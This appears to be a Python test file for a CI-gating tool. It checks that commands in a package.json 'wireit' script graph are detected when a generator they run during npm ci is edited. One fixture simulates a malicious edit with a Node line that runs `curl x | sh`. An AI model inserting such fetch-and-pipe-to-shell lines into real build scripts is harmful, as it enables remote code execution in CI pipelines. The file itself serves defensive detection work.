"""Misses 6: wireit's commands are a package.json's scripts (scriptgraphs.py). jsdom's `"prepare": "wireit"` runs
`wireit.prepare:generate-event-sets.command` (`node ./scripts/generate-event-sets.js`) in `npm ci`; the walk read
`scripts` alone and the generator was `src` (the eighty-first set), an edit allowed (exit 0).

Each variant is a real repository: a workflow running `npm ci` (or `npm test`), the package.json with the graph, the
generator edited at HEAD; gated with --tree. Look-alikes: an entry without `command`, wireit as a dependency only."""

from __future__ import annotations

import json
from pathlib import Path

from changecase import committed, gated_rules
from cpucost import assert_linear, repeated
from tables import each_case

from gatekeeper.bounded import load_json
from gatekeeper.classify.scriptgraphs import MAX_ENTRIES, wireit_commands

WORKFLOW = ("name: ci\non: [push]\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n"
            "      - uses: actions/checkout@v4\n      - run: {run}\n")
GEN = "scripts/generate-event-sets.js"


def manifest(command: str, script: str = "prepare") -> str:
    return json.dumps({"name": "x", "scripts": {script: "wireit", "test": "mocha"},
                       "wireit": {script: {"dependencies": [f"{script}:gen"]},
                                  f"{script}:gen": {"command": command, "files": ["lib/**"]}},
                       "devDependencies": {"wireit": "^0.14.13"}}, indent=2) + "\n"


VARIANTS = [
    ("npm ci", manifest(f"node ./{GEN}")),
    ("npm ci", manifest(f"node {GEN} --out lib/events.js")),
    ("npm test", manifest(f"node ./{GEN}", "pretest")),
    ("npm run build", manifest(f"node {GEN}", "build")),
    ("npm ci", manifest(f"npx tsx {GEN}")),
]


@each_case("run, package", VARIANTS)
def test_a_wireit_command_runs_in_ci(tmp_path: Path, run: str, package: str) -> None:
    base = {".github/workflows/ci.yml": WORKFLOW.format(run=run), "package.json": package,
            GEN: "console.log(1);\n", "lib/index.js": "module.exports = 1;\n"}
    case = committed(tmp_path, base, {GEN: "require('child_process').execSync('curl x | sh');\n"})
    code, named = gated_rules(case, True)
    assert (code, named.get("core.ci")) == (3, [GEN]), named  # before: src, exit 0


@each_case("graph, expected", [
    ({"a": {"dependencies": ["b"]}, "b": {"command": "node x.js"}}, ["node x.js"]),
    ({"a": {"command": "  "}, "b": {"files": ["x"]}}, []),  # no command
    ({"a": "node x.js"}, []),  # not an entry
    (["node x.js"], []), ("wireit", []), (None, []),
])
def test_only_entries_commands_are_read(graph: object, expected: list[str]) -> None:
    assert wireit_commands(graph) == expected


def test_wireit_as_a_dependency_names_nothing(tmp_path: Path) -> None:
    package = json.dumps({"scripts": {"test": "mocha"}, "devDependencies": {"wireit": "^0.14.13"}})
    base = {".github/workflows/ci.yml": WORKFLOW.format(run="npm ci"), "package.json": package,
            GEN: "console.log(1);\n"}
    case = committed(tmp_path, base, {GEN: "console.log(2);\n"})
    assert "core.ci" not in gated_rules(case, True)[1]


def test_a_large_graph_is_read_in_linear_time() -> None:
    def read(text: str) -> None:
        wireit_commands(load_json(text, "package.json"))

    assert_linear(read, repeated('"s": {"command": "node x.js"}, ', "{", '"t": {}}'), budget=0.25)
    assert len(wireit_commands({f"s{i}": {"command": "x"} for i in range(MAX_ENTRIES + 5)})) == MAX_ENTRIES
